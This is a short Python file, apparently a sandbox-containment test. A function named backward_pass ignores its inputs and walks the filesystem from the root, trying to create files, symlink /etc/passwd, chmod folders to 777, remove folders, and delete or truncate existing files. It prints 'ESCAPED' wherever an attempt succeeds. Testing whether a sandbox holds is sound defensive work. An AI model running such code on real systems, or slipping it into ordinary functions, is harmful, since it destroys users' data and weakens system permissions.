"""It makes files, folders, links and pipes in every folder that it can see.

Expected: failed
"""

import os

NAME = "backmark-escaped"
walk = os.walk("/")


def tries(folder):
    path = os.path.join(folder, NAME)
    yield lambda: open(path, "w")
    yield lambda: os.mkdir(path)
    yield lambda: os.symlink("/etc/passwd", path)
    yield lambda: os.mkfifo(path)
    yield lambda: os.mknod(path)
    yield lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR)
    yield lambda: os.chmod(folder, 0o777)
    yield lambda: os.utime(folder)
    yield lambda: os.rmdir(folder)


def backward_pass(all_weights, all_biases, all_f, all_h, y):
    for (folder, _, files), _ in zip(walk, range(20)):
        for attempt in tries(folder):
            try:
                attempt()
                print("ESCAPED", folder)
            except OSError:
                pass
        for name in files[:3]:
            for attempt in (os.unlink, lambda path: os.truncate(path, 0), lambda path: os.link(path, path + NAME)):
                try:
                    attempt(os.path.join(folder, name))
                    print("ESCAPED", folder, name)
                except OSError:
                    pass
    return [np.zeros_like(w) for w in all_weights], [np.zeros_like(b) for b in all_biases]
